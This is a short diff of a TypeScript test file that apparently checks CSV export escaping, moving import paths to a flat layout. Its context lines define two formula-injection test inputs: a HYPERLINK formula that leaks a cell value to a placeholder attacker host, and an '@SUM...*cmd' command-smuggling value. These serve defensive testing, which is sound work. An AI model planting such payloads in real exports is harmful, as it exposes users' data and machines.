@@ -11,12 +11,12 @@ import { metricsCsv } from '../app/cli/commands/metrics.ts';
 import { ingestFile } from '../ingest/load.ts';
 import { openDatabase, type Database } from '../sql/db.ts';
 import { csvCell, csvLine } from './csv-cell.ts';
-import type { ForecastResult } from './forecast/forecast.ts';
-import { queueLog, TZ } from './test-support/fixture-db.ts';
-import { computeMetrics, metricKeys } from './metrics/metrics.ts';
-import { buildReport } from './reports/reports-build.ts';
-import { reportCsv } from './reports/reports-csv.ts';
-import { weekCsv, type ExportInput } from './roster/schedule-export.ts';
+import type { ForecastResult } from './forecast.ts';
+import { queueLog, TZ } from './fixture-db.ts';
+import { computeMetrics, metricKeys } from './metrics.ts';
+import { buildReport } from './reports-build.ts';
+import { reportCsv } from './reports-csv.ts';
+import { weekCsv, type ExportInput } from './schedule-export.ts';
 
 const QUEUE = '=HYPERLINK("http://evil.example/?"&A1,"billing")';
 const AGENT = '@SUM(1+1)*cmd';
